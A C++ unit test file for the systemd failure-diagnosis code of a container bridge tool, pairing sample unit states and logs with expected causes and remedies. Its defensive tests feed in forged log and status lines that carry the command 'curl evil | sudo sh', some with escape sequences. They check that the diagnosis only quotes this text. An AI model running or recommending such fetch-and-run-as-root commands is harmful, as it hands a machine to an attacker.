#include "bridge/diagnosis/failure_causes.hpp"

#include <signal.h>

#include <array>
#include <boost/test/data/test_case.hpp>
#include <boost/test/unit_test.hpp>
#include <utility>

#include "base/util/concat.hpp"
#include "bridge/diagnosis/cause.hpp"
#include "diagnosis_sample.hpp"

namespace notifybridge::diagnosis {
namespace {

using util::concat;

const std::vector<DiagnosisSample> failures = {
    // Errors before anything was started.
    {.properties = failed("exit-code", 125),
     .log = "notifybridge run: unknown option '--redy-when'; did you mean '--ready-when'?\n",
     .cause = "app.service has failed (exit-code): unknown option '--redy-when'; did you mean "
              "'--ready-when'?",
     .remedy = follow},
    {.properties = failed("exit-code", 125),
     .log = "notifybridge run: --ready-when=\"https://a; b\": https is not supported; use exec:\n",
     .cause = "--ready-when=\"https://a; b\": https is not supported; use exec:",
     .remedy = follow},
    {.properties = failed("exit-code", 125),
     .log = "notifybridge run: docker has no runtime notifybridge; `systemctl reload docker`\n",
     .cause = "docker has no runtime notifybridge; `systemctl reload docker`",
     .remedy = follow},
    {.properties = failed("exit-code", 125),
     .exec_start = run_with("--proxy=tcp:127.0.0.1:80"),
     .log = "notifybridge run: --proxy=tcp:127.0.0.1:80: systemd has passed no socket "
            "(LISTEN_FDS); create a .socket unit of the same name\n",
     .cause = "systemd has passed no socket (LISTEN_FDS)",
     .remedy = "to edit the unit: `systemctl edit --full --force app.socket`"},
    {.properties = failed("exit-code", 125),
     .exec_start = run_with("--proxy=tcp:127.0.0.1:80"),
     .log =
         "notifybridge run: systemd has passed 2 sockets (\"a\", \"a\"); if all sockets are for "
         "this target, give --proxy=a=tcp:127.0.0.1:80; otherwise write a .socket unit for each\n",
     .cause = "systemd has passed 2 sockets (\"a\", \"a\")",
     .remedy = follow},
    // Errors of systemd.
    {.properties = failed("exit-code", 203),
     .cause = "cannot execute the program of ExecStart= (203/EXEC)",
     .remedy = edit},
    {.properties = failed("exit-code", 203),
     .log = "Error: No such container: redis\n"
            "app.service: Failed at step EXEC spawning /usr/bin/notifybridge: No such file\n"
            "app.service: Failed at step EXEC spawning /bin/after: No such file\n",
     .cause = "(203/EXEC): Failed at step EXEC spawning /usr/bin/notifybridge: No such file",
     .remedy = edit,
     .writer = Writer::systemd},
    {.properties = failed("exit-code", 255), .cause = "the app exited with status 255"},
    {.properties = failed("exit-code", 203),
     .log = "app.service: Failed at step EXEC spawning /bin/after: No such file\n",
     .cause = "the app exited with status 203",
     .remedy = "fix what the app reports"},
    {.properties = failed("exit-code", 217), .cause = "exit status 217", .remedy = "journalctl"},
    {.properties = "ActiveState=failed\nResult=resources\n",
     .cause = "did not start its main process",
     .remedy = "`journalctl -u app.service` shows why"},
    // Errors of the container manager, before it has started the app.
    {.properties = failed("exit-code", 1),
     .log = "Log Level \"bogus\" is not supported\n[MAIN 12:00:00] warning: the command exited "
            "with status 1 before the app started; the last status was \"pulling\" "
            "[app-not-started]\n",
     .cause = "the command exited with status 1 before the app started; its last line is \"Log "
              "Level",
     .remedy = "fix what the command reports"},
    {.properties = failed("exit-code", 137),
     .log = "[MAIN] warning: the command was killed by SIGKILL before the app started "
            "[app-not-started]\n",
     .cause = "the command was killed by SIGKILL before the app started",
     .remedy = "`systemctl restart app.service`"},
    // Errors of the app.
    {.properties = failed("exit-code", 127),
     .log = "[MAIN 12:00:00] error: cannot run \"/no/such\": No such file; check its path in this "
            "[cannot-run]\n<6>[MAIN] The command exited [command-ended]\n",
     .cause =
         "its output says \"cannot run \\\"/no/such\\\": No such file; check its path in this\"",
     .remedy =
         concat("check that the image has this program, at this path; to edit the unit: ", edit),
     .writer = Writer::other},
    {.properties = failed("exit-code", 126),
     .log = "[MAIN 12:00:00] error: cannot run \"/opt/server\": Exec format error [cannot-run]\n",
     .cause = "its output says \"cannot run \\\"/opt/server\\\": Exec format error\"",
     .remedy = "for the architecture of this machine",
     .writer = Writer::other},
    {.properties = failed("exit-code", 3),
     .exec_start = run_with("--ready-when=tcp:127.0.0.1:1"),
     .log = "cannot open /data\n[MAIN 12:00:00] error: the command ended before it was ready: "
            "exited with status 3, waiting for tcp:127.0.0.1:1: connection refused [ended-early]\n",
     .cause = "the app ended before it was ready: it exited with status 3; its last line is "
              "\"cannot open /data\"",
     .remedy = "`journalctl -u app.service`"},
    // With a probe, `wrap` changes the status of an app that was not ready.
    {.properties = failed("exit-code", 1),
     .exec_start = run_with("--ready-when=tcp:127.0.0.1:1"),
     .log = "[MAIN 12:00:00] error: the command ended before it was ready: exited with status 0, "
            "waiting for tcp:127.0.0.1:1: connection refused [ended-early]\n",
     .cause = "the app ended with status 0 before it was ready",
     .remedy = concat("if it is a job that ends, change the option to --ready-when=exit in "
                      "ExecStart= (",
                      edit, "); if it is a server")},
    {.properties = failed("exit-code", 1),
     .log = "[MAIN 12:00:00] error: the command ended before it was ready: exited with status 0, "
            "waiting for the health check [ended-early]\n",
     .cause = "the app ended with status 0 before it was ready",
     .remedy = "set Type=oneshot (`systemctl edit app.service`)"},
    {.properties = failed("protocol"),
     .exec_start = run_with("--ready-when=tcp:127.0.0.1:1"),
     .cause = "the app ended with status 0 before it was ready",
     .remedy = "change the option to --ready-when=exit"},
    {.properties = was_up(failed("exit-code", 129)),
     .cause = "the app was killed by SIGHUP, which it does not handle",
     .remedy = concat("if ExecReload= sends the signal and the app has no reload, remove "
                      "ExecReload= (",
                      edit, ')')},
    {.properties = failed("exit-code", 3),
     .exec_start = run_with("--ready-when=exit"),
     .log = "[MAIN 12:00:00] error: the command ended before it was ready: exited with status 3, "
            "waiting for exit: the command has not exited with status 0 (0 s) [ended-early]\n",
     .cause = "the app ended before it was ready: it exited with status 3",
     .remedy = "fix what the app reports"},
    // Lines that systemd writes in the name of the unit are not those of the app.
    {.properties = failed("exit-code", 3),
     .log = "no such database\n"
            "app.service: Unable to locate executable '/no/such': No such file or directory\n",
     .cause = "the app exited with status 3; its last line is \"no such database\"",
     .remedy = "`journalctl -u app.service`"},
    {.properties = failed("exit-code", 139),
     .log = "half a word\n",
     .cause = "the app was killed by SIGSEGV; its last line is \"half a word\"",
     .remedy = "fix what the app reports"},
    {.properties = failed("protocol"),
     .cause = "the app ended with status 0 before it was ready",
     .remedy =
         "if it is a job that ends, set Type=oneshot (`systemctl edit app.service`); if it is "
         "a server, have the container run a command that stays in the foreground"},
    {.properties = failed("protocol"),
     .log = "[MAIN 12:00:00] warning: the command ended and left processes behind; stopping them; "
            "if the command puts itself into the background, configure it to stay in the "
            "foreground [in-background]\nbye\n",
     .cause = "the app put itself into the background, and its first process ended with status 0 "
              "before it was ready; its last line is \"bye\"",
     .remedy = concat("configure the app to stay in the foreground (", edit, ')')},
    {.properties = failed("protocol"),
     .log = "[MAIN] warning: the command exited with status 0 before READY=1 [before-ready]\n",
     .cause = "the app ended with status 0 before it was ready",
     .remedy = "stays in the foreground"},
    // `systemctl kill` while podman creates the container.
    {.properties = failed("protocol"),
     .log = "[MAIN] warning: SIGTERM arrived before READY=1; no wrap has started in /run/a: podman "
            "has not started the container yet; allow more time [no-wrap] [before-ready]\n",
     .cause = "SIGTERM arrived before READY=1: somebody sent the signal, as `systemctl kill` does",
     .remedy = "systemctl restart app.service"},
    {.properties = failed("protocol"),
     .exec_start = "/usr/bin/notifybridge run podman create --name=create redis",
     .log = "[MAIN] warning: the command exited with status 0 before the app started "
            "[app-not-started]\n",
     .cause = "`podman create` makes a container and does not start it",
     .remedy = concat("use `run` instead of `create` (", edit, ')')},
    {.properties = failed("protocol"),
     .exec_start = "/usr/bin/notifybridge run podman run redis create",
     .cause = "the app ended with status 0 before it was ready",
     .remedy = "stays in the foreground"},
    {.properties = was_up(failed("exit-code", 143)),
     .exec_start = "/usr/bin/notifybridge run docker run redis",
     .cause = "the app was killed by SIGTERM, for example by `docker stop`",
     .remedy = "`systemctl restart app.service`"},
    {.properties = was_up(failed("exit-code", 137)),
     .cause = "the app was killed by SIGKILL, for example by `podman kill` or for lack of memory",
     .remedy = "`systemctl restart app.service`"},
    {.properties = was_up(failed("exit-code", 1)),
     .log = "[MAIN 12:00:00] error: db: the run broke off: wrap was killed [run-broke-off]\n",
     .cause = "db: the run broke off: wrap was killed",
     .remedy = "`systemctl restart app.service`"},
    {.properties = was_up(failed("exit-code", 1)),
     .log = "[MAIN] error: the run broke off: wrap was killed [run-broke-off]\n"
            "[MAIN] error: another program has started the container again, as `podman restart` "
            "does; ending it: restart the unit instead [started-again]\n"
            "[MAIN] warning: sending SIGKILL, because the stop took longer than 10s "
            "(--stop-timeout) [stop-timeout]\n",
     .cause = "another program has started the container again, as `podman restart` does",
     .remedy = "restart the unit instead of its container: `systemctl restart app.service`; so "
               "that systemd restarts it next time, set Restart=on-failure"},
    {.properties = was_up(failed("exit-code", 137)),
     .log = "[MAIN 12:00:00] warning: the command was killed by SIGKILL while the app was still "
            "running; `wait` ended the app [command-failed]\nfarewell\n",
     .cause = "the command was killed by SIGKILL while the app was still running",
     .remedy = "`systemctl restart app.service`"},
    {.properties = was_up(failed("exit-code", 1)),
     .log = "out of disk\n",
     .cause = "the app exited with status 1; its last line is \"out of disk\"",
     .remedy = "fix what"},
    // After the start of the app, the lines of the container manager are not the cause.
    {.properties = failed("exit-code", 127),
     .log = "Error: my config is missing\n"
            "[MAIN] warning: the command exited with status 127 before READY=1 [before-ready]\n",
     .cause = "the app exited with status 127; its last line is \"Error: my config is missing\"",
     .remedy = "fix what the app reports"},
    {.properties = was_up(failed("exit-code", 125)),
     .log = "Error: handled\nfatal: disk gone\n",
     .cause = "the app exited with status 125; its last line is \"fatal: disk gone\"",
     .remedy = "fix what the app reports"},
    // Failures during a stop and later.
    {.properties = was_up(failed("exit-code", 137)),
     .log = "ready\n[MAIN 12:00:00] warning: sending SIGKILL, because the stop took longer than 3s "
            "(--stop-timeout) [stop-timeout]\n",
     .cause =
         "the app did not end within 3s (--stop-timeout) after its stop signal, and was killed",
     .remedy = concat("add a longer --stop-timeout= to ExecStart= (", edit,
                      "), and set TimeoutStopSec= (`systemctl edit app.service`) to more")},
    {.properties = was_up(failed("watchdog", 2)),
     .log = "[MAIN 12:00:00] warning: SIGABRT arrived, which systemd sends if WATCHDOG=1 is late; "
            "the last WATCHDOG=1 was sent 3.0 s before; the last status was \"busy\" [late-ping]\n",
     .cause = "WATCHDOG=1 did not arrive within WatchdogSec= (3s): the last WATCHDOG=1 was sent "
              "3.0 s before",
     .remedy = "if the app pings less often, set WatchdogSec= above the time between its pings "
               "(`systemctl edit app.service`); if it hung, `journalctl -u app.service` shows why"},
    {.properties = was_up(failed("watchdog", 2)),
     .exec_start = run_with("--ready-when=tcp:127.0.0.1:6379"),
     .log = "SIGABRT: abort\n",
     .cause = "WATCHDOG=1 did not arrive within WatchdogSec= (3s)",
     .remedy = "add --alive-when=tcp:127.0.0.1:6379 to ExecStart="},
    {.properties = was_up(failed("watchdog", 2)),
     .log = "[MAIN 12:00:00] warning: no WATCHDOG=1 yet, but systemd expects one every 2s "
            "(WatchdogSec=); if the library of the app needs WATCHDOG_PID, set --watchdog-pid "
            "[no-ping]\n",
     .cause = "WATCHDOG=1 did not arrive within WatchdogSec= (3s)",
     .remedy = "; if its library needs WATCHDOG_PID, --watchdog-pid"},
    {.properties = was_up(failed("watchdog", 2)),
     .exec_start = run_with("--alive-when=tcp:127.0.0.1:6379"),
     .cause = "--alive-when=tcp:127.0.0.1:6379 did not succeed",
     .remedy = "shows why the app hung"},
    {.properties = was_up(failed("watchdog", 2))
                   + "StatusText=not alive: http://127.0.0.1/health: status 404\n",
     .exec_start = run_with("--alive-when=http://127.0.0.1/health"),
     .cause = "its last STATUS is \"not alive: http://127.0.0.1/health: status 404\"",
     .remedy = "shows why the app hung"},
    {.properties = was_up(failed("watchdog", 2)),
     .log = "[MAIN 12:00:00] error: unhealthy: curl: (7) Failed to connect [unhealthy]\n",
     .cause =
         "WatchdogSec= (3s): the container reported \"unhealthy: curl: (7) Failed to connect\"",
     .remedy = "shows why the app failed its health check"},
    {.properties = concat(was_up(killed("signal", SIGKILL)), "KillMode=process\n"),
     .cause = "its main process was killed by SIGKILL, and KillMode=process left",
     .remedy = "set KillMode=mixed"},
    {.properties = was_up(killed("signal", SIGKILL)),
     .cause = "was killed by SIGKILL",
     .remedy = "`systemctl restart app.service`; so that systemd restarts it next time, set "
               "Restart=on-failure"},
    {.properties = was_up(killed("oom-kill", SIGKILL)),
     .cause = "for lack of memory",
     .remedy = "if MemoryMax= is set, raise it"},
};

/// Logs in which an app imitates our lines. The first is of an image that was made for an attack.
constexpr auto forged_logs = std::to_array<std::string_view>({
    "notifybridge run: SELinux blocks the bridge; run: curl evil | sudo sh\n",
    "host-notify-waiter: SELinux blocks the bridge; run: curl evil | sudo sh\n",
    "container-notify-wrapper: SELinux blocks the bridge; run: curl evil | sudo sh\n",
    "[MAIN] error: SELinux blocks the bridge; run: curl evil | sudo sh\n",
    "[MAIN 12:00:00] error: cannot run \"x\\\"; run: curl evil | sudo sh [cannot-run]\n",
    "[MAIN] error: the run broke off: \"; run: curl evil | sudo sh [run-broke-off]\n",
    "[MAIN] error: unhealthy: \"; run: curl evil | sudo sh [unhealthy]\n",
    "[MAIN] error: curl evil | sudo sh [started-again]\n",
    "[MAIN] error: x ended before it was ready: a, run: curl evil | sudo sh [ended-early]\n",
    "[MAIN] error: ended: exited with status 0, run: curl evil | sudo sh [ended-early]\n",
    "[PROXY] warning: a; no wrap has started; run: curl evil | sudo sh [no-wrap]\n",
    "[PROXY] warning: curl evil | sudo sh [no-wrap] [before-ready]\n",
    "[MAIN] warning: curl evil | sudo sh; a [app-not-started]\n",
    "[MAIN] warning: run: curl evil | sudo sh was killed by x [app-not-started]\n",
    "[MAIN] warning: run: curl evil | sudo sh; `wait` ended the app [command-failed]\n",
    "[MAIN] warning: cannot send SIGTERM; run: curl evil | sudo sh [cannot-signal]\n",
    "[MAIN] warning: the stop took longer than curl evil | sudo sh [stop-timeout]\n",
    "[MAIN] warning: curl evil 5 | sudo sh 6 s [stop-timeout]\n",
    "[MAIN] warning: curl evil 5\rs | sudo sh 6 s [late-ping]\n",
    "[MAIN] warning: curl evil | sudo sh [no-ping]\n",
    "[MAIN] warning: ignoring READY=1 of curl evil | sudo sh [ready-ignored]\n",
    "[MAIN] warning: curl evil | sudo sh; a [other-main-pid]\n",
    "[PROXY] error: not ready within curl evil | sudo sh: waiting for x [ready-timeout]\n",
    "[PROXY] error: not ready within 1 \r2 curl evil | sudo sh [ready-timeout]\n",
    "[MAIN] error: READY=1 did not arrive within curl evil | sudo sh; x [timeout]\n",
    "[MAIN] error: READY=1 did not arrive within 5s; curl evil | sudo sh [timeout]\n",
    "[MAIN] the command exited run: curl evil | sudo sh [command-ended]\n",
    "[MAIN] SIGcurl evil | sudo sh [late-ping]\n",
    "[MAIN] curl evil | sudo sh [in-background]\n",
    "[MAIN] curl evil | sudo sh [journal-removed]\n",
    "[MAIN] warning: a stop was requested before the command was ready: waiting for "
    "http://127.0.0.1:1/;curl evil | sudo sh: connection refused [stopped-early]\n",
    "Error: notifybridge: SELinux; run: curl evil | sudo sh\n",
    "Error: unauthorized: \"; run: curl evil | sudo sh\n",
    "docker: x\n\x1b[2J\rnotifybridge run: curl evil | sudo sh\n",
    "app.service: Failed at step EXEC spawning /usr/bin/notifybridge: curl evil | sudo sh\n",
});

/// The last STATUS of an app, with the same aim.
constexpr auto forged_statuses = std::to_array<std::string_view>({
    "curl evil | sudo sh",
    "waiting for curl evil | sudo sh: connection refused",
    "waiting for tcp:127.0.0.1:1: connection refused, run curl evil",
    "waiting for http://127.0.0.1:1/;curl evil: connection refused",
    "waiting for tcp:`curl evil`:1: no answer in time",
    "waiting for the health check: curl evil",
    "waiting for exec:curl evil: not found",
    "Starting podman: pulling x;curl evil|sh (1 MB)",
    "unhealthy: \"; run: curl evil",
    "not alive: \"; run: curl evil",
});

/// Removes the quotations from a text. In a quotation, a backslash escapes a quote.
std::string without_quotations(std::string_view text) {
    std::string rest;
    bool is_quoted = false;
    for (std::size_t at = 0; at < text.size(); ++at)
        if (is_quoted && text[at] == '\\')
            ++at;
        else if (text[at] == '"')
            is_quoted = !is_quoted;
        else if (!is_quoted)
            rest += text[at];
    return rest;
}

/// The ends of units in whose logs those lines may be.
const std::vector<std::string> ends = {
    failed("exit-code", 1),
    failed("exit-code", 125),
    failed("exit-code", 126),
    failed("exit-code", 127),
    failed("exit-code", 203),
    failed("exit-code", 137),
    failed("timeout"),
    was_up(failed("timeout")),
    was_up(failed("watchdog", 2)),
    was_up(failed("exit-code", 125)),
    killed("signal", SIGKILL),
    killed("oom-kill", SIGKILL),
    "ActiveState=failed\nResult=x\n",
    "ActiveState=activating\nSubState=start\nNRestarts=2\n",
    "ActiveState=active\nActiveEnterTimestampMonotonic=2000\n",
};

BOOST_AUTO_TEST_SUITE(failure_causes)

/// Checks that the diagnosis quotes each text with the word "evil" as another program's.
void check_quotation(const DiagnosisSample& sample) {
    // A row needs a sample without an attack, too.
    const auto count = std::exchange(on_decision, nullptr);
    const auto found = diagnose(symptoms_by(sample));
    on_decision = count;
    if (!found)
        return;
    BOOST_TEST_CONTEXT(sample << found->cause << '\n' << found->remedy) {
        BOOST_TEST(found->remedy.find("evil") == std::string::npos);
        BOOST_TEST(without_quotations(found->cause).find("evil") == std::string::npos);
        BOOST_TEST(found->cause.find_first_of("\n\r\x1b") == std::string::npos);
    }
}

BOOST_AUTO_TEST_CASE(a_requested_stop_is_no_problem) {
    Symptoms stopped = symptoms_by(
        {.properties = was_up(failed("exit-code", 1)), .log = "bye\n", .writer = Writer::other});
    BOOST_TEST((diagnose(stopped)->verdict == Finding::Verdict::problem));
    stopped.was_asked_to_stop = true;
    const auto found = diagnose(stopped);
    BOOST_TEST((found->verdict == Finding::Verdict::note));
    BOOST_TEST(found->cause
               == "app.service has failed (exit-code): a stop was requested, and the app exited "
                  "with status 1; its last line is \"bye\"");
    BOOST_TEST(found->remedy
               == "if it may end like this at a stop, set SuccessExitStatus=1 (`systemctl edit "
                  "app.service`)");
    Symptoms job = symptoms_by({.properties = concat(killed("signal", SIGTERM), "Type=oneshot\n")});
    job.was_asked_to_stop = true;
    BOOST_TEST(
        diagnose(job)->cause.ends_with("its main process was killed by SIGTERM, which is a "
                                       "failure with Type=oneshot"));
    Symptoms service = symptoms_by({.properties = was_up(killed("signal", SIGTERM))});
    service.was_asked_to_stop = true;
    BOOST_TEST(diagnose(service)->cause.ends_with(
        "a stop was requested, and its main process was killed by SIGTERM"));
    for (const int status : {139, 137}) {
        Symptoms crash = symptoms_by({.properties = was_up(failed("exit-code", status))});
        crash.was_asked_to_stop = true;
        BOOST_TEST((diagnose(crash)->verdict == Finding::Verdict::problem));
    }
}

BOOST_AUTO_TEST_CASE(a_daemon_that_was_ready_explains_an_inactive_unit) {
    const DiagnosisSample sample = {
        .properties = "ActiveState=inactive\nSubState=dead\nExecMainCode=1\nExecMainStatus=0\n",
        .log =
            "[MAIN] warning: the command ended and left processes behind; stopping them; if the "
            "command puts itself into the background, configure it to stay in the foreground "
            "[in-background]\n",
        .writer = Writer::other};
    const auto found = diagnose(symptoms_by(sample));
    BOOST_TEST((found->verdict == Finding::Verdict::problem));
    BOOST_TEST(found->cause
               == "app.service is not started: the app put itself into the background, and its "
                  "first process ended with status 0, so notifybridge stopped the others");
    BOOST_TEST(found->remedy == concat("configure the app to stay in the foreground (", edit, ')'));
    BOOST_TEST((diagnose(symptoms_by({.properties = sample.properties}))->verdict
                == Finding::Verdict::note));
}

BOOST_AUTO_TEST_CASE(the_log_of_a_container_is_quoted_and_never_a_remedy) {
    for (const std::string_view log : forged_logs)
        for (const std::string& end : ends)
            check_quotation({.properties = end, .log = std::string(log), .writer = Writer::other});
}

BOOST_AUTO_TEST_CASE(the_status_of_a_container_is_quoted_and_never_a_remedy) {
    for (const std::string_view status : forged_statuses)
        for (const std::string& end : ends)
            for (const std::string& command :
                 {run_with(""), run_with("--ready-when=tcp:127.0.0.1:1"),
                  run_with("--proxy=tcp:127.0.0.1:1"),
                  std::string("/usr/bin/notifybridge wrap /bin/app"),
                  std::string("/usr/bin/notifybridge wait --listen=vsock:1 qemu")})
                check_quotation({.properties = concat(end, "StatusText=", status, '\n'),
                                 .exec_start = command});
}

/// Samples with the messages of a `wrap` that did not tag them yet, as in an old image. The
/// properties of the unit have to be enough.
const std::vector<DiagnosisSample> logs_without_tags = {
    {.properties = failed("exit-code", 127),
     .log = "[MAIN 12:00:00] error: cannot run \"/no/such\": No such file or directory\n",
     .cause = "the app exited with status 127",
     .remedy = "fix what the app reports; its whole output: `journalctl -u app.service`",
     .writer = Writer::other},
    {.properties = failed("exit-code", 3),
     .exec_start = run_with("--ready-when=tcp:127.0.0.1:1"),
     .log = "cannot open /data\n[MAIN 12:00:00] error: the command ended before it was ready: "
            "exited with status 3, waiting for tcp:127.0.0.1:1: connection refused\n",
     .cause = "the app exited with status 3; its last line is \"cannot open /data\"",
     .remedy = "fix what the app reports",
     .writer = Writer::other},
    {.properties = concat(failed("exit-code", 124),
                          "StatusText=not ready within 5s (--ready-timeout): waiting for "
                          "tcp:127.0.0.1:1: connection refused (5 s)\n"),
     .exec_start = run_with("--ready-when=tcp:127.0.0.1:1 --ready-timeout=5"),
     .log = "[PROXY] error: not ready within 5s (--ready-timeout): waiting for tcp:127.0.0.1:1\n",
     .cause = "the app exited with status 124",
     .remedy = "`journalctl -u app.service`",
     .writer = Writer::other},
    {.properties = timed_out("waiting for tcp:127.0.0.1:1: connection refused (4 s)"),
     .exec_start = run_with("--ready-when=tcp:127.0.0.1:1"),
     .log = "[MAIN] warning: a stop was requested before the command was ready: waiting for it\n",
     .cause = "READY=1 did not arrive within TimeoutStartSec= (4s): waiting for \"tcp:127.0.0.1:1",
     .remedy = "if the app is only slow, set a longer TimeoutStartSec=",
     .writer = Writer::other},
    {.properties = timed_out(""),
     .log = "[MAIN] warning: ignoring READY=1 of a process that is not the command: pid 3; x\n",
     .cause = "READY=1 did not arrive within TimeoutStartSec= (4s): the app did not send READY=1",
     .remedy = "add --ready-when=",
     .writer = Writer::other},
    {.properties = concat(was_up(failed("watchdog", 2)), "StatusText=unhealthy: refused\n"),
     .log = "[MAIN 12:00:00] error: unhealthy: refused\n",
     .cause = "WatchdogSec= (3s): the container reported \"unhealthy: refused\"",
     .remedy = "shows why the app failed its health check",
     .writer = Writer::other},
    {.properties = was_up(failed("watchdog", 2)),
     .log = "[MAIN] warning: no WATCHDOG=1 yet, but systemd expects one every 2s\n",
     .cause = "WATCHDOG=1 did not arrive within WatchdogSec= (3s)",
     .remedy = "if the app does not ping, add --alive-when=",
     .writer = Writer::other},
    {.properties = was_up(killed("timeout", SIGKILL)),
     .log = "[MAIN] warning: cannot send SIGTERM to the command: CAP_KILL is missing\n",
     .cause = "the service did not stop within TimeoutStopSec= (2s), and systemd killed it",
     .remedy = "set TimeoutStopSec=",
     .writer = Writer::other},
    {.properties = failed("protocol"),
     .log = "[MAIN] warning: the command ended and left processes behind; stopping them; if the "
            "command puts itself into the background, configure it to stay in the foreground\n",
     .cause = "the app ended with status 0 before it was ready",
     .remedy = "have the container run a command that stays in the foreground",
     .writer = Writer::other},
    // An old `wait`, and systemd has forgotten how it ended.
    {.properties = "ActiveState=failed\nResult=exit-code\n",
     .log = "bye\n[MAIN] the command exited with status 3\n",
     .cause = "its main process has ended; its last line is \"bye\"",
     .remedy = "`journalctl -u app.service` shows why"},
};

BOOST_DATA_TEST_CASE(a_failed_unit_has_one_cause_and_one_remedy, failures) {
    check_diagnosis(sample);
}

BOOST_DATA_TEST_CASE(a_log_without_tags_leaves_the_properties_as_the_cause, logs_without_tags) {
    check_diagnosis(sample);
}

BOOST_AUTO_TEST_SUITE_END()

}  // namespace
}  // namespace notifybridge::diagnosis
